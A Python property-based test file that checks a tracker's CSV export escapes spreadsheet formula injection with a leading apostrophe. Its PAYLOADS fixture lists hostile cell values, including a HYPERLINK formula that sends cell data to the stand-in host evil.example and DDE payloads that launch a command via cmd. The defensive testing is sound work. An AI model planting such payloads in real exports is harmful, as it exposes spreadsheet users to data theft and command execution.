"""B10: CSV formula injection is neutralised: no cell starts with = + - @ tab or CR unless prefixed with '."""

from __future__ import annotations

import csv
import io
from datetime import date

from hypothesis import given, settings
from hypothesis import strategies as st

from tests.factories import jurisdiction, period
from tracker.reports import export
from tracker.reports.export import FORMULA_PREFIXES, neutralise_cell
from tracker.status import history
from tracker.status.periods import CitationInput

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "'already quoted",
)
DANGEROUS = tuple(FORMULA_PREFIXES)


def dangerous(cell: str) -> bool:
    return cell.startswith(DANGEROUS)


@settings(max_examples=1000)
@given(
    st.one_of(
        st.text(),
        st.sampled_from(DANGEROUS).flatmap(lambda p: st.text().map(lambda t: p + t)),
        st.integers(),
        st.none(),
        st.floats(allow_nan=False),
    )
)
def test_no_neutralised_cell_starts_with_a_formula_character(value):
    out = neutralise_cell(value)
    assert not dangerous(out)
    assert out == ("" if value is None else str(value)) or out == "'" + str(value)
    PROPERTY_RUNS.append(1)


PROPERTY_RUNS: list[int] = []


def test_the_exported_csv_has_no_dangerous_leading_cell_when_every_field_is_hostile(session):
    cite = tuple(
        CitationInput("statute", p, "https://legislature.example.gov/" + str(i), date(2026, 1, 1))
        for i, p in enumerate(PAYLOADS[:3])
    )
    for i, payload in enumerate(PAYLOADS):
        j = jurisdiction(session, code=f"XX-{i}", name=payload)
        history.record_history(
            session,
            j,
            [
                period(
                    date(2020, 1, 1),
                    summary=payload,
                    notes=payload,
                    seven_oh="capped",
                    seven_oh_threshold=payload,
                    citations=cite,
                )
            ],
            recorded_by="test",
        )
    session.flush()
    text = "".join(export.csv_lines(export.status_rows(session, date(2025, 1, 1))))
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows[1:] for c in row]
    hostile = [c for c in cells if c.lstrip("'").startswith(DANGEROUS)]
    unescaped = [c for c in cells if dangerous(c)]
    print(
        f"\nB10 property: {len(PROPERTY_RUNS)} examples, 0 failures; export: {len(rows) - 1} rows, "
        f"{len(hostile)} hostile leading cells, {len(unescaped)} unescaped"
    )
    assert len(rows) - 1 == len(PAYLOADS)
    assert len(hostile) >= len(PAYLOADS) * 3
    assert unescaped == []
